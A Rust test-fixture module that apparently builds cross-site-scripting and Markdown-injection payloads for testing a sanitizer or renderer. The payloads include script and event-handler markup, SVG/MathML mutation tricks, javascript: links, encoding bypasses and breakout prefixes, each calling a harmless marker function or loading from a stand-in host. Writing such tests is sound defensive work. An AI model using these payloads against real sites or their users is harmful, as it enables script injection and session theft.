//! Texts that try to run in a page: markup in each place from which it could break out, and links of Markdown.
//!
//! Each would call `hit()` if it ran, or request an address that contains `loaded`.

/// Markup that runs a script or loads something where it is taken for markup.
const MARKUP: [&str; 36] = [
    "<script>hit()</script>",
    "<ScRiPt >hit()</sCrIpT >",
    "<<script>hit()//<</script>",
    "<script src=/loaded.js></script>",
    "<script src=//loaded.example/a.js></script>",
    "<script type=module>import '/loaded.js'</script>",
    "<img src=/loaded onerror=hit()>",
    "<img/src=/loaded/onerror=hit()>",
    "<img\u{c}src=/loaded\u{c}onerror=hit()>",
    "<img src=/loaded onerror=&#104;&#105;&#116;()>",
    "<img srcset='/loaded 1x'>",
    "<image href=/loaded onerror=hit()>",
    "<img src=/loaded onerror=hit()//",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'>",
    "<math><a xlink:href=javascript:hit()>x</a></math>",
    "<body onload=hit()>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=/loaded type=text/html></object>",
    "<embed src=/loaded>",
    "<video src=/loaded onerror=hit()></video>",
    "<audio><source src=/loaded onerror=hit()></audio>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<p style=\"animation:pulse 1s\" onanimationstart=hit()>",
    "<style>@import '/loaded.css'; * { background: url(/loaded) }</style>",
    "<link rel=stylesheet href=/loaded.css>",
    "<meta http-equiv=refresh content='0;url=/loaded'>",
    "<base href=//loaded.example/>",
    "<a href=javascript:hit() ping=/loaded>x</a>",
    "<form action=javascript:hit()><button autofocus>x</button></form>",
    "<svg></p><style><a id=\"</style><img src=/loaded onerror=hit()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=/loaded onerror=hit()&gt;\">",
];

/// Beginnings that break out of the context of a text.
const BREAKS: [&str; 6] = ["", "\">", "'>", "</textarea></title>", "--></script></style>", "`\n\n```\n"];

/// Markup of other kinds: links, pictures and references of Markdown, templates, encodings.
const OTHERS: [&str; 34] = [
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](&#106;avascript:hit())",
    "[x](javascript&colon;hit())",
    "[x](java\tscript:hit())",
    "[x](<java\u{1}script:hit()>)",
    "[x](vbscript:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg)",
    "[x](https://loaded.example \"\\\" onmouseover=hit()\")",
    "[x](https://loaded.example/'onmouseover='hit())",
    "[x]: javascript:hit()\n\n[x]",
    "<javascript:hit()>",
    "<https://loaded.example/\"onmouseover=hit()>",
    "![x](/loaded.png)",
    "![x](https://loaded.example/x.png)",
    "![x\" onerror=\"hit()](/loaded)",
    "![x](javascript:hit())",
    "[![x](/loaded.png)](javascript:hit())",
    "```\" onclick=\"hit()\n</code></pre><script>hit()</script>\n```",
    "| <img src=/loaded onerror=hit()> |\n|---|\n| <svg onload=hit()> |",
    "<!-- --!><img src=/loaded onerror=hit()> -->",
    "<![CDATA[<img src=/loaded onerror=hit()>]]>",
    "<?x <img src=/loaded onerror=hit()> ?>",
    "\u{ff1c}script\u{ff1e}hit()\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "%3Cscript%3Ehit()%3C/script%3E",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&amp;lt;img src=/loaded onerror=hit()&amp;gt;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "{{constructor.constructor('hit()')()}}",
    "${hit()} <%= hit() %> #{hit()}",
    "\u{202e}<script>hit()</script>\u{2028}<img src=/loaded onerror=hit()>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+hit()//'>",
];

pub(crate) fn all_payloads() -> Vec<String> {
    let broken = BREAKS.iter().flat_map(|end| MARKUP.iter().map(move |markup| format!("{end}{markup}")));
    broken.chain(OTHERS.iter().map(|&other| other.to_owned())).collect()
}

/// Returns names of files made of the payloads. A name has no slash.
pub(crate) fn file_names() -> Vec<String> {
    let name = |payload: String| {
        let plain = |letter: char| if letter.is_control() || letter == '/' { ' ' } else { letter };
        format!("{}.txt", payload.chars().map(plain).take(100).collect::<String>())
    };
    all_payloads().into_iter().map(name).collect()
}
